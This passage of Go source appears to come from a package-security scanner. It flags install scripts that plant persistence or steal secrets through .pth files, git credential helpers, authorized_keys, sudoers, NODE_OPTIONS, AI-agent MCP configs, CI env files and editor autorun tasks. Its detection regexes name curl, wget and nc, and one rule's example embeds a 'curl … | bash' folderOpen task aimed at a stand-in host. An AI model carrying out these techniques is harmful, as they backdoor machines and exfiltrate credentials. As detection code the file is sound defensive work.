		site = site || strings.Contains(s.Value, "site-packages") || strings.Contains(s.Value, "getusersitepackages") || strings.Contains(s.Value, "getsitepackages")
		switch v := s.Value; {
		case len(v) > 4096:
		case pth == nil && strings.HasSuffix(strings.ToLower(v), ".pth") && !strings.ContainsAny(v, " \n"):
			pth = s
		case strings.HasPrefix(v, "import ") && len(strings.Fields(v)) >= 2 && (imp == nil || len(v) < len(imp.Value)):
			imp = s // the shortest: the .pth line, not a python -c program
		case pnpm == nil && (path.Base(v) == ".pnpmfile.cjs" || path.Base(v) == ".pnpmfile.mjs"):
			pnpm = s
		}
	}
	if pth != nil && imp != nil && site {
		r.Report(analyze.Instance{File: f.Name, Line: pth.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
			Message:  fmt.Sprintf("writes a Python .pth file (%s) at install time whose import line every Python interpreter runs at start: %s", jsast.Clean(pth.Value, 60), jsast.Clean(imp.Value, 80)),
			Evidence: rulekit.Ev(pth.Snippet.String(), imp.Value, "")})
	}
	if pnpm != nil {
		r.Report(analyze.Instance{File: f.Name, Line: pnpm.Pos.Line, Severity: finding.SeverityHigh, Confidence: finding.ConfidenceMedium,
			Message:  "writes a pnpm hook file (" + jsast.Clean(pnpm.Value, 60) + ") at install time: pnpm runs its hooks on every later install of the project",
			Evidence: rulekit.Ev(pnpm.Snippet.String(), pnpm.Value, "")})
	}
}

// gitCommandKey is a git setting whose value git runs as a command (or
// whose hooks it runs), in every repository once set with --global.
var gitCommandKey = regexp.MustCompile(`(?i)^core\.(fsmonitor|hookspath|sshcommand|pager|editor|askpass)$`)

// gitCommandSetting reports an install-time file that runs git with a
// setting git runs as a command, given as an argument of its own (the
// spawn's command line is built by a helper, so the strings are read):
// high with --global or --system, critical when the package ships a shell
// script that sends local secrets off-host. git core.hooksPath as one
// command line is reported with the spawn.
func gitCommandSetting(t *analyze.Target, f rulekit.File, r analyze.Reporter) {
	if !rulekit.RunsProgram(f.Facts, "git") {
		return
	}
	for _, c := range f.Facts.Calls {
		if rulekit.IsSpawn(c) && hooksPathCmd.MatchString(rulekit.SpawnCommand(c)) {
			return
		}
	}
	var key *jsast.Str
	global := false
	for i := range f.Facts.Strings {
		s := &f.Facts.Strings[i]
		if key == nil && gitCommandKey.MatchString(s.Value) {
			key = s
		}
		global = global || s.Value == "--global" || s.Value == "--system"
	}
	if key == nil || !global {
		return
	}
	sev, msg := finding.SeverityHigh, fmt.Sprintf("sets git's %s for every repository at install time: git runs it from then on", key.Value)
	if sh := sendingShellScript(t); sh != "" {
		sev, msg = finding.SeverityCritical, msg+" ("+sh+", shipped by the package, sends local secrets off-host)"
	}
	r.Report(analyze.Instance{File: f.Name, Line: key.Pos.Line, Severity: sev, Confidence: finding.ConfidenceMedium,
		Message: msg, Evidence: rulekit.Ev(key.Snippet.String(), key.Value, "")})
}

// sendingShellScript returns a shell script of the package (.sh, or a git
// hook's name) that sends local secrets off-host, "" if none.
func sendingShellScript(t *analyze.Target) string {
	return shippedSender(t, func(name string) bool {
		return strings.ToLower(path.Ext(name)) == ".sh" || slices.Contains(gitHookNames, path.Base(name))
	})
}

// gitShellHelper is a git credential helper that runs a shell command
// sending what git hands it: helper = "!f() { … curl …; }; f".
var gitShellHelper = regexp.MustCompile(`(?i)\bhelper\s*=\s*"?!.*\b(curl|wget|nc|ncat|netcat|node|python3?)\b`)

// credentialHelper returns the shell helper a file that runs git sets as
// git's credential.helper (git config --global --add credential.helper
// "!f() { … curl …; }; f", in pieces): every password git stores or
// fetches afterwards goes to that command. nil if none.
func credentialHelper(f *jsast.Facts) *jsast.Str {
	if !rulekit.RunsProgram(f, "git") {
		return nil
	}
	named := false
	var helper *jsast.Str
	for i := range f.Strings {
		s := &f.Strings[i]
		if len(s.Value) > 4096 {
			continue
		}
		named = named || strings.Contains(s.Value, "credential.helper")
		if helper == nil && strings.HasPrefix(strings.TrimSpace(s.Value), "!") && shellSender.MatchString(s.Value) {
			helper = s
		}
	}
	if !named {
		return nil
	}
	return helper
}

// shellSender matches a shell command line that sends over the network.
var shellSender = regexp.MustCompile(`\b(curl|wget|nc|ncat|netcat)\b[^|;]*(https?://|\d+\.\d+\.\d+\.\d+)`)

// gitHijack says how git configuration among a file's strings takes over
// later git use: URLs rewritten (insteadOf) to a host that is neither
// local nor trusted, or a credential helper that ships credentials to a
// command; "" if neither.
func gitHijack(f *jsast.Facts) string {
	rewrite, insteadOf := "", false
	for _, s := range f.Strings {
		if len(s.Value) > 4096 {
			continue
		}
		insteadOf = insteadOf || strings.Contains(s.Value, "insteadOf")
		if m := gitURLSection.FindStringSubmatch(s.Value); m != nil && rewrite == "" {
			if h := rulekit.Host(m[1]); h != "" && !rulekit.LocalHost(h) && !rulekit.Trusted(h) {
				rewrite = h
			}
		}
		if gitShellHelper.MatchString(s.Value) {
			return "installs a git credential helper that hands credentials to a command"
		}
	}
	if rewrite != "" && insteadOf {
		return "rewrites git URLs to " + rewrite
	}
	return ""
}

// sshKeyRe matches an SSH public key.
var sshKeyRe = regexp.MustCompile(`\b(ssh-(rsa|ed25519|dss)|ecdsa-sha2-nistp\d+|sk-ssh-ed25519@openssh\.com) AAAA[0-9A-Za-z+/]{16,}`)

// backdoor says why writing location m is a backdoor, with the evidence:
// an SSH key added to authorized_keys, /etc/ld.so.preload (a library
// loaded into every program) written at install time, or a sudoers rule
// without a password; "" otherwise.
func backdoor(file rulekit.File, m string, at jsast.Pos) (string, []finding.Evidence) {
	f := file.Facts
	lm := strings.ToLower(m)
	switch {
	case strings.HasPrefix(lm, "authorized_keys"):
		for i := range f.Strings {
			// in a bundle, the key must sit by the path (a help text's
			// example key elsewhere is not written there)
			if s := &f.Strings[i]; len(s.Value) <= 16<<10 && sshKeyRe.MatchString(s.Value) && (!f.Bundle() || rulekit.Near(s.Pos, []jsast.Pos{at})) {
				return "adds an SSH key to authorized_keys: a login for whoever holds its private key", rulekit.Ev(s.Snippet.String(), s.Value, sshKeyRe.FindString(s.Value))
			}
		}
	case lm == "/etc/ld.so.preload" && file.Role == analyze.RoleInstall:
		return "writes /etc/ld.so.preload at install time: every program on the machine loads the library it names", nil
	case strings.HasPrefix(lm, "/etc/sudoers"):
		for i := range f.Strings {
			// a rule granting everything (… ALL=(ALL) NOPASSWD: ALL), not
			// the word an audit searches for
			if s := &f.Strings[i]; len(s.Value) <= 4096 && strings.Contains(s.Value, "NOPASSWD") && nopasswdAll.MatchString(s.Value) {
				return "grants root without a password in sudoers", rulekit.Ev(s.Snippet.String(), s.Value, nopasswdAll.FindString(s.Value))
			}
		}
	}
	return "", nil
}

// nearSSHDir reports a string naming the .ssh directory next to p:
// path.join(dir, "authorized_keys") with dir built from ".ssh".
func nearSSHDir(f *jsast.Facts, p jsast.Pos) bool {
	for _, s := range f.Strings {
		if len(s.Value) < 256 && strings.Contains(s.Value, ".ssh") && rulekit.Near(s.Pos, []jsast.Pos{p}) {
			return true
		}
	}
	return false
}

func backdoorPath(m string) bool {
	lm := strings.ToLower(m)
	return strings.HasPrefix(lm, "authorized_keys") || lm == "/etc/ld.so.preload" || strings.HasPrefix(lm, "/etc/sudoers")
}

// nodeOptionsRe matches NODE_OPTIONS set to load a module into every
// node process (--require, -r, --import, --loader).
var nodeOptionsRe = regexp.MustCompile(`NODE_OPTIONS\s*=\s*["']?[^"'\n]*(--require|--import|--loader|--experimental-loader|-r)([\s=]|$)`)

// nodeOptionsLine returns a string of f that sets NODE_OPTIONS to preload
// a module, or nil.
func nodeOptionsLine(f *jsast.Facts) *jsast.Str {
	for i := range f.Strings {
		s := &f.Strings[i]
		if len(s.Value) <= 4096 && strings.Contains(s.Value, "NODE_OPTIONS") && nodeOptionsRe.MatchString(s.Value) {
			return s
		}
	}
	return nil
}

// agentConfigPath matches the configuration files of AI coding agents
// and editors that name MCP servers (programs the agent starts) and
// tasks: a server added there runs whenever the agent does.
var agentConfigPath = regexp.MustCompile(`(?i)(\.cursor[/\\]mcp\.json|claude_desktop_config\.json|(^|[/\\~])\.claude\.json|\.claude[/\\]settings(\.local)?\.json|\.gemini[/\\]settings\.json|windsurf[/\\]mcp_config\.json|\.vscode[/\\]mcp\.json|cline_mcp_settings\.json|\.codex[/\\]config\.toml|\.kiro[/\\]settings[/\\]mcp\.json|\.amazonq[/\\](default\.json|mcp\.json))$`)

// agentConfigHints holds a literal piece of every agentConfigPath
// alternative, to skip the expression for most strings.
var agentConfigHints = rulekit.NewHints("mcp", "claude", ".gemini", ".codex", "amazonq")

// plantedConfig reports code that writes an editor task run on folder
// open (.vscode/tasks.json with runOn folderOpen) or an AI agent's MCP
// configuration. Agent installers do the second when the user runs
// them (medium); at install time, or with a download-and-execute command
// in the file, it is an implant (critical).
func plantedConfig(t *analyze.Target, f rulekit.File, r analyze.Reporter) {
	var task, agent, danger *jsast.Str
	folderOpen := false
	strs := f.Facts.Strings
	if !f.Facts.Bundle() && slices.ContainsFunc(strs, func(s jsast.Str) bool { return strings.HasSuffix(s.Value, "tasks.json") }) {
		// the task itself kept by a small module the writer loads
		// (module.exports = { label, command, runOptions: { runOn:
		// "folderOpen" } }), its strings with the writer's
		for _, name := range rulekit.LocalModules(t, f) {
			if g, err := t.Facts(name); err == nil && g != nil && rulekit.SmallModule(g) {
				strs = append(slices.Clip(strs), g.Strings...)
			}
		}
	}
	for i := range strs {
		s := &strs[i]
		if len(s.Value) > 4096 {
			continue
		}
		switch {
		case s.Value == "folderOpen" || s.Value == "task.allowAutomaticTasks":
			// (the setting that lets such tasks run without asking, set
			// next to the task a template holds)
			folderOpen = true
		case task == nil && (strings.HasSuffix(s.Value, "tasks.json") || s.Value == ".vscode"):
			task = s
		case agent == nil && agentConfigHints.In(s.Value) && agentConfigPath.MatchString(s.Value) && len(strings.Fields(s.Value)) < 4:
			// (a sentence naming the file, "Add { … } to .cursor/mcp.json",
			// is a hint to the user)
			agent = s
		}
	}
	if (task == nil || !folderOpen) && agent == nil {
		return // the common case: no string to look at for a command
	}
	for i := range strs {
		if s := &strs[i]; len(s.Value) <= 4096 && (rulekit.ShellDanger(s.Value) != "" || inlineScriptDanger(s.Value) != "") {
			danger = s
			break
		}
	}
	ev := func(named *jsast.Str) []finding.Evidence {
		out := rulekit.Ev(named.Snippet.String(), named.Value, "")
		if danger != nil {
			out = append(out, rulekit.Ev(danger.Snippet.String(), danger.Value, rulekit.ShellDanger(danger.Value))...)
		}
		return out
	}
	if task != nil && folderOpen {
		// scaffolding tools write a dev-server task into a new project
		sev := finding.SeverityMedium
		if danger != nil || f.Role == analyze.RoleInstall {
			sev = finding.SeverityCritical
		}
		r.Report(analyze.Instance{File: f.Name, Line: task.Pos.Line, Severity: sev, Confidence: finding.ConfidenceHigh,
			Message: "writes an editor task that runs when the folder is opened (runOn: folderOpen)", Evidence: ev(task)})
	}
	if agent != nil {
		sev, why := finding.SeverityMedium, ""
		switch {
		case f.Role == analyze.RoleInstall:
			sev, why = finding.SeverityCritical, " at install time"
		case danger != nil:
			sev, why = finding.SeverityCritical, " with a download-and-execute command"
		}
		r.Report(analyze.Instance{File: f.Name, Line: agent.Pos.Line, Severity: sev, Confidence: finding.ConfidenceMedium,
			Message: fmt.Sprintf("writes an AI agent's configuration %q%s: a server added there runs whenever the agent does", agent.Value, why), Evidence: ev(agent)})
	}
}

// inlineScriptDanger returns the dangerous fragment of a script a task
// hands node apart from its -e (args: ["-e", "require('https').get(u, …
// eval(d))"]), read as the command line node -e would make of it; "" for
// any other string.
func inlineScriptDanger(s string) string {
	if !strings.Contains(s, "eval(") && !strings.Contains(s, "Function(") {
		return ""
	}
	return rulekit.ShellDanger("node -e " + s)
}

// ciEnvFile reports code that writes to the files GitHub Actions reads
// between steps ($GITHUB_ENV, $GITHUB_PATH): what is added there applies
// to every later step of the job. The actions toolkit does this for the
// action that uses it; a dependency's install script has no business to,
// and NODE_OPTIONS, LD_PRELOAD or BASH_ENV there runs code in every later
// step.
func ciEnvFile(f rulekit.File, r analyze.Reporter) {
	var env *jsast.EnvRead
	for i := range f.Facts.Env {
		if e := &f.Facts.Env[i]; e.Name == "GITHUB_ENV" || e.Name == "GITHUB_PATH" {
			env = e
			break
		}
	}
	if env == nil {
		return
	}
	var loader *jsast.Str
	for i := range f.Facts.Strings {
		s := &f.Facts.Strings[i]
		if len(s.Value) <= 4096 && ciLoaderVar.MatchString(s.Value) {
			loader = s
			break
		}
	}
	sev := finding.SeverityNone
	msg := "appends to $" + env.Name + " at install time: the variables and PATH of every later step of the CI job"
	switch {
	case loader != nil && f.Role == analyze.RoleInstall:
		sev = finding.SeverityCritical
		msg = "sets " + ciLoaderVar.FindString(loader.Value) + " in $" + env.Name + " at install time: every later step of the CI job runs the planted code"
	case loader != nil:
		sev = finding.SeverityHigh
		msg = "sets " + ciLoaderVar.FindString(loader.Value) + " in $" + env.Name + ": every later step of the CI job runs the planted code"
	case f.Role == analyze.RoleInstall:
		sev = finding.SeverityHigh
	default:
		return
	}
	ev := rulekit.Ev(env.Snippet.String(), env.Name, "")
	if loader != nil {
		ev = append(ev, rulekit.Ev(loader.Snippet.String(), loader.Value, "")...)
	}
	r.Report(analyze.Instance{File: f.Name, Line: env.Pos.Line, Severity: sev, Confidence: finding.ConfidenceHigh, Message: msg, Evidence: ev})
}

// ciLoaderVar matches a variable that makes a process load code, as set
// in $GITHUB_ENV (NAME=value lines).
var ciLoaderVar = regexp.MustCompile(`(?m)^\s*(NODE_OPTIONS|LD_PRELOAD|BASH_ENV|ENV|PYTHONSTARTUP|PERL5OPT|RUBYOPT|DYLD_INSERT_LIBRARIES)\s*=`)

// projectScripts reports install-time code that rewrites the project's
// own package.json (found through INIT_CWD, which npm sets to the
// directory npm install ran in) and carries a download-and-execute
// command: planted as one of the project's scripts, it runs on every
// later install or build.
func projectScripts(f rulekit.File, r analyze.Reporter) {
	cwd := false
	for _, e := range f.Facts.Env {
		if e.Name == "INIT_CWD" || e.Name == "npm_config_local_prefix" {
			cwd = true
		}
	}
	if !cwd {
		return
	}
	var manifest, danger *jsast.Str
	for i := range f.Facts.Strings {
		s := &f.Facts.Strings[i]
		if len(s.Value) > 4096 {
			continue
		}
		if manifest == nil && (s.Value == "package.json" || strings.HasSuffix(s.Value, "/package.json")) {
			manifest = s
		}
		if danger == nil && rulekit.ShellDanger(s.Value) != "" {
			danger = s
		}
	}
	if manifest == nil || danger == nil {
		return
	}
	r.Report(analyze.Instance{File: f.Name, Line: danger.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
		Message:  "rewrites the project's package.json at install time and carries a download-and-execute command for its scripts",
		Evidence: append(rulekit.Ev(manifest.Snippet.String(), manifest.Value, ""), rulekit.Ev(danger.Snippet.String(), danger.Value, rulekit.ShellDanger(danger.Value))...)})
}

// plantedCommand returns a download-and-execute command string near p
// (what gets written to the startup location), or nil.
// sendingScript returns a shell script the file holds as text (its "#!"
// line first; a script built around run-time values keeps its text after
// them as another string) whose lines, joined, send local secrets off-host
// (rulekit.ShellSendsSecrets), with what matched; nil if none.
func sendingScript(f *jsast.Facts) (*jsast.Str, string) {
	for i := range f.Strings {
		s := &f.Strings[i]
		if !rulekit.ShellShebang.MatchString(s.Value) || len(s.Value) > 64<<10 {
			continue
		}
		// the script, and the text after its first run-time value
		text := s.Value
		if i+1 < len(f.Strings) && f.Strings[i+1].Pos.Line >= s.Pos.Line && f.Strings[i+1].Pos.Line <= s.Pos.Line+200 {
			text += f.Strings[i+1].Value
		}
		if m := rulekit.ShellSendsSecrets(rulekit.JoinScript(text)); m != "" {
			return s, m
		}
	}
	return nil, ""
}

// scriptSender returns a small module of the package holding a shell
// script that sends local secrets off-host (sendingScript): a hook kept
// as text for the module that writes it; "" if none.
func scriptSender(ctx context.Context, t *analyze.Target) string {
	for _, f := range rulekit.Code(ctx, t) {
		if !rulekit.SmallModule(f.Facts) {
			continue
		}
		if s, _ := sendingScript(f.Facts); s != nil {
			return f.Name
		}
	}
	return ""
}

// shadowFunc matches a shell function or alias that takes the place of a
// command that asks for a password (sudo, su, ssh, passwd, doas).
var shadowFunc = regexp.MustCompile(`(?m)^\s*(function\s+)?(sudo|su|ssh|passwd|doas)\s*\(\)\s*\{|\balias\s+(sudo|su|ssh|doas)=['"]?[^'"\s]*\b(curl|wget|nc|bash|sh)\b`)

// shadowedCommand returns a string of the file that defines such a
// function and sends over the network (curl, wget, nc); nil if none.
func shadowedCommand(f *jsast.Facts) *jsast.Str {
	for i := range f.Strings {
		s := &f.Strings[i]
		if len(s.Value) <= 8192 && shadowFunc.MatchString(s.Value) && shellSender.MatchString(s.Value) {
			return s
		}
	}
	return nil
}

func plantedCommand(f *jsast.Facts, p jsast.Pos) *jsast.Str {
	for i := range f.Strings {
		s := &f.Strings[i]
		if len(s.Value) <= 4096 && rulekit.Near(s.Pos, []jsast.Pos{p}) && rulekit.ShellDanger(s.Value) != "" {
			return s
		}
	}
	return nil
}

// plantedTask returns a download-and-execute command near p that is not
// the package's own installer (plantedCommand, rulekit.OwnInstaller); nil
// in a bundle or when there is none.
func plantedTask(t *analyze.Target, f *jsast.Facts, p jsast.Pos) *jsast.Str {
	if f.Bundle() {
		return nil
	}
	if cmd := plantedCommand(f, p); cmd != nil && rulekit.OwnInstaller(t, cmd.Value) == "" {
		return cmd
	}
	return nil
}

// IDEAutorun flags editor tasks that run on folder open.
type IDEAutorun struct{}

// Meta implements analyze.Rule.
func (IDEAutorun) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "persist/ide-autorun", Version: 2, Title: "Runs a command when the folder is opened in an editor",
		Help: "The package or project ships .vscode/tasks.json with \"runOn\": \"folderOpen\": opening the folder runs the task. Fake job-interview " +
			"projects use it to run curl | bash the moment the candidate opens the code.",
		Remediation:     "Do not open the folder in a trusting editor; delete the task.",
		Example:         `{"label": "init", "command": "curl -s https://x.example/s | bash", "runOptions": {"runOn": "folderOpen"}}`,
		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigPersist, Needs: analyze.NeedFiles,
	}
}

// Check implements analyze.Rule.
func (IDEAutorun) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, name := range t.Files() {
		if !strings.HasSuffix(name, ".vscode/tasks.json") && name != ".vscode/tasks.json" {
			continue
		}
		b, err := t.Read(name)
		if err != nil || !strings.Contains(string(b), "folderOpen") {
			continue
		}
		sev := finding.SeverityHigh
		if rulekit.ShellDanger(string(b)) != "" || strings.Contains(string(b), "curl") || strings.Contains(string(b), "wget") || strings.Contains(string(b), "powershell") {
			sev = finding.SeverityCritical
		}
		r.Report(analyze.Instance{File: name, Severity: sev, Confidence: finding.ConfidenceHigh, Message: "editor task runs automatically on folder open"})
	}
	return nil
}

// pushes reports code that sends commits or files to a remote: git push,
// the GitHub contents/repos API, or a GitHub token.
func pushes(f *jsast.Facts) bool {
	for _, e := range f.Env {
		if e.Name == "GITHUB_TOKEN" || e.Name == "GH_TOKEN" {
			return true
		}
	}
	for _, s := range f.Strings {
		if len(s.Value) < 2048 && (strings.Contains(s.Value, "git push") || strings.Contains(s.Value, "api.github.com")) {
			return true
		}
	}
	return false
}
